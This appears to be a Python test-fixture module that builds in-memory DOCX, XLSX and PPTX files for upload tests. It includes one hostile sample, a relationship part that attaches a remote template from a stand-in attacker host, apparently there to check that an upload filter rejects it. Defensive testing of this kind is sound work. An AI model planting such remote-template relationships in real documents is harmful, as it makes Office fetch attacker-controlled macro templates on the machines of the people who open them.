"""Office documents built in memory for upload tests: a real DOCX (python-docx) and XLSX (openpyxl), a PPTX
with the parts a presentation has, and the same files made dangerous (macros, ActiveX, a remote template)."""
from __future__ import annotations

import io
import zipfile

PPTX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>')
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="ppt/presentation.xml"/></Relationships>')
PRESENTATION = ('<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="http://schemas.openxmlformats.'
                'org/presentationml/2006/main"/>')
REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    '</Relationships>')


def zipped(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_bytes(text: str = "Briefing notes") -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Item", "Count"])
    book.active.append(["Chairs", 12])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def pptx_bytes(**extra: bytes | str) -> bytes:
    return zipped({"[Content_Types].xml": PPTX_CONTENT_TYPES, "_rels/.rels": PACKAGE_RELS,
                   "ppt/presentation.xml": PRESENTATION, **extra})


def with_parts(data: bytes, **parts: bytes | str) -> bytes:
    """`data` (a zip) with parts added or replaced."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        kept = {name: archive.read(name) for name in archive.namelist() if name not in parts}
    return zipped({**kept, **parts})
